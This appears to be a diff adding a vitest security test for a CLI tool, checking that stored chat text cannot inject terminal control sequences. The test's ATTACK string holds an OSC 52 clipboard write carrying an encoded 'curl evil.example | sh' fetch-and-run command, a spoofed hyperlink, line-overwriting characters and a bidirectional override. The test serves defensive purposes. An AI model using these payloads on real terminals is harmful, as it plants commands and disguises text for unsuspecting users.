@@ -1,0 +1,147 @@
+import { mkdtemp, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { runCli } from '../helpers/run-cli.ts';
+import { createServerDatabase, DATABASE_KINDS, dropServerDatabase } from '../helpers/test-database.ts';
+
+// What a captured chat message could carry to drive the terminal of whoever reads it later: an OSC 52
+// clipboard write, an OSC 8 hyperlink, a screen clear, a carriage return and backspaces that overwrite
+// the line, an 8-bit CSI, and a right-to-left override that reverses what follows.
+const ATTACK =
+  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007' +
+  '\u001b[2J\r\b\b' +
+  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u001b\\' +
+  '\u009b31m\u202eexe.tropmi\u2066';
+const FORBIDDEN = ['\u001b', '\u0007', '\r', '\b', '\u009b', '\u202e', '\u2066'];
+const TITLE = `Okta SSO rollout ${ATTACK} done`;
+const BODY = `Okta SSO takes a day to set up.${ATTACK}\nSecond line\tstays tabbed.`;
+const QUESTION = `Okta SSO status?${ATTACK}`;
+// Several child processes per test; a shared, busy machine can take a while to start them.
+const SLOW = 180_000;
+
+function expectTerminalSafe(output: { stdout: string; stderr: string }) {
+  const printed = output.stdout + output.stderr;
+  for (const char of FORBIDDEN) expect(printed).not.toContain(char);
+}
+
+describe.each(DATABASE_KINDS)('CLI output of stored text cannot drive the terminal (%s)', (kind) => {
+  let dataDir: string;
+  let env: Record<string, string> = {};
+  let serverDb: URL | undefined;
+  let entryId: number;
+  const earshot = (...args: string[]) => runCli(dataDir, args, env);
+
+  beforeAll(async () => {
+    const dir = await mkdtemp(path.join(tmpdir(), 'earshot-terminal-'));
+    dataDir = path.join(dir, 'data');
+    if (kind === 'postgres') {
+      serverDb = await createServerDatabase();
+      env = { DATABASE_URL: serverDb.toString() };
+    }
+    const entries = path.join(dir, 'entries.jsonl');
+    const today = new Date().toISOString();
+    await writeFile(
+      entries,
+      `${JSON.stringify({ kind: 'tip', title: TITLE, body: BODY, topics: ['sso'], source: { author: `Mallory${ATTACK}` }, createdAt: today })}\n`,
+    );
+    const accounts = path.join(dir, 'accounts.jsonl');
+    await writeFile(
+      accounts,
+      `${JSON.stringify({ name: `Globex${ATTACK}`, domain: 'globex.example', ownerEmail: 'rep@example.com' })}\n`,
+    );
+    expect((await earshot('import', entries)).code).toBe(0);
+    expect((await earshot('accounts', 'import', accounts)).code).toBe(0);
+    expect((await earshot('ask', QUESTION)).code).toBe(0);
+    const listed = await earshot('entries', 'list', '--json');
+    entryId = JSON.parse(listed.stdout.trim().split('\n')[0] ?? '').id;
+  }, SLOW);
+
+  afterAll(async () => {
+    if (serverDb) await dropServerDatabase(serverDb);
+  });
+
+  it(
+    'ask: the answer shows the entry, with no control characters',
+    async () => {
+      const output = await earshot('ask', 'Okta SSO rollout?');
+      expect(output.stdout).toContain('Okta SSO rollout');
+      expect(output.stdout).toContain('Mallory');
+      expectTerminalSafe(output);
+    },
+    SLOW,
+  );
+
+  it(
+    'search, entries list and entries show: the entry, with no control characters',
+    async () => {
+      for (const args of [
+        ['search', 'Okta'],
+        ['entries', 'list'],
+        ['entries', 'show', String(entryId)],
+      ]) {
+        const output = await earshot(...args);
+        expect(output.code).toBe(0);
+        expect(output.stdout).toContain('Okta SSO');
+        expectTerminalSafe(output);
+      }
+    },
+    SLOW,
+  );
+
+  it(
+    'entries show keeps the body readable: newlines and tabs stay, the bidi override shows as an escape',
+    async () => {
+      const { stdout } = await earshot('entries', 'show', String(entryId));
+      const shown = JSON.parse(stdout);
+      expect(shown.body).toBe(BODY); // JSON stays lossless for machines
+      expect(stdout).toContain('\\u202e'); // and a reader sees that something was there
+    },
+    SLOW,
+  );
+
+  it(
+    'questions list, the curators\u2019 digest and accounts list: stored text, with no control characters',
+    async () => {
+      const [questions, digest, accounts] = await Promise.all([
+        earshot('questions', 'list'),
+        earshot('digest', 'show', '--curators'),
+        earshot('accounts', 'list'),
+      ]);
+      for (const output of [questions, digest, accounts]) {
+        expect(output.code).toBe(0);
+        expectTerminalSafe(output);
+      }
+      expect(questions.stdout).toContain('Okta SSO status?');
+      expect(digest.stdout).toContain('Okta SSO rollout');
+      expect(accounts.stdout).toContain('Globex');
+    },
+    SLOW,
+  );
+
+  it(
+    '--json output parses to exactly the stored text, each line valid JSON',
+    async () => {
+      const outputs = await Promise.all([
+        earshot('entries', 'list', '--json'),
+        earshot('questions', 'list', '--json'),
+        earshot('search', 'Okta', '--json'),
+        earshot('accounts', 'list', '--json'),
+        earshot('ask', 'Okta SSO rollout?', '--json'),
+      ]);
+      for (const output of outputs) expectTerminalSafe(output);
+      const [entries, questions, search, accounts, ask] = outputs.map(({ stdout }) =>
+        stdout
+          .trim()
+          .split('\n')
+          .map((line) => JSON.parse(line)),
+      );
+      expect(entries?.[0]).toMatchObject({ title: TITLE, body: BODY });
+      expect(questions?.map((question: { text: string }) => question.text)).toContain(QUESTION);
+      expect(search?.[0].results[0].title).toBe(TITLE);
+      expect(accounts?.[0].name).toBe(`Globex${ATTACK}`);
+      expect(ask?.[0].sources[0].title).toBe(TITLE);
+    },
+    SLOW,
+  );
+});
